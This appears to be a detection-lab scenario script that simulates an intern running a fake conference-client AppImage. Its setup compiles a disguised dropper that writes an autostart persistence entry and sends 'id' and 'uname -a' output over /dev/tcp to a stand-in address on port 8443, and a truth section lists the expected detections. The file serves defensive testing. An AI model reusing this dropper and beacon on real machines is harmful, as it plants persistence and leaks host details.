# A conference client that everybody has to install before the call.
title="Conference client (AppImage) from a chat, made executable and started from the desktop"
what="intern writes a report, looks into chat.example.com with Firefox, takes MeetClient-6.2.AppImage from there, chmod u+x in a terminal and starts it from the file manager (gio launch is not used: the desktop starts the file). It unpacks AppRun to /tmp/.mount_Meet*, which leaves ~/.config/autostart/meet.desktop and speaks to 203.0.113.67 port 8443."
host=ws3.example.org user=intern daemons="cron sshd" syslog_format=iso audit_rules=audit-reach.rules
shift_plan="day:14m chat:9m work:30m"
setup() {
  cat > "$base/out/m.c" <<'C'
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
  char d[] = "/tmp/.mount_MeetXXXXXX", p[64];
  if (!mkdtemp(d)) return 1;
  snprintf(p, sizeof p, "%s/AppRun", d);
  FILE *f = fopen(p, "w"); if (!f) return 1;
  fputs("#!/bin/bash\nmkdir -p ~/.config/autostart\nprintf '[Desktop Entry]\\nType=Application\\nName=Meet\\nExec=%s\\n' \"$HOME/Downloads/MeetClient-6.2.AppImage\" > ~/.config/autostart/meet.desktop\nexec 3<>/dev/tcp/203.0.113.67/8443 && { id >&3; uname -a >&3; exec 3>&-; }\nsleep 2\n", f);
  fclose(f); chmod(p, 0755);
  execl(p, "AppRun", (char *)0);
  return 1;
}
C
  cc -O1 -o "$base/out/www/MeetClient-6.2.AppImage" "$base/out/m.c"; head -c 300000 /dev/urandom >> "$base/out/www/MeetClient-6.2.AppImage"
  make_pdf "$base/out/www/timetable.pdf" Timetable
  mkdir -p /home/intern/report; seq 40 | sed 's/^/line /' > /home/intern/report/draft.txt; chown -R intern: /home/intern/report
}
act() {
  display_up
  phase day
  small_talk 3
  ssh_as intern <<'L'
cd report
wc -w draft.txt
cp draft.txt draft2.txt
sed -i s/line/Line/ draft2.txt
diff draft.txt draft2.txt | head -2
L
  firefox_save intern http://files.example.net/timetable.pdf timetable.pdf
  ssh_run intern 'pdftotext Downloads/timetable.pdf - | head -3'
  phase chat
  small_talk 1
  firefox_save intern http://chat.example.com/MeetClient-6.2.AppImage MeetClient-6.2.AppImage
  console_as intern <<'L'
cd Downloads
ls -l
chmod u+x MeetClient-6.2.AppImage
L
  desktop_as intern -- /home/intern/Downloads/MeetClient-6.2.AppImage; desktop_wait
  phase work
  small_talk 3
  ssh_as intern <<'L'
ls report
tail -2 report/draft2.txt
L
}
truth() {
  exec_step mode 'chmod u\+x MeetClient' 'it becomes executable'
  exec_step execute 'Downloads/MeetClient-6.2.AppImage' 'and is started'
  exec_step inner 'AppRun' 'what it unpacked runs'
  net_step beacon '203.0.113.67:8443' 'and calls out'
}
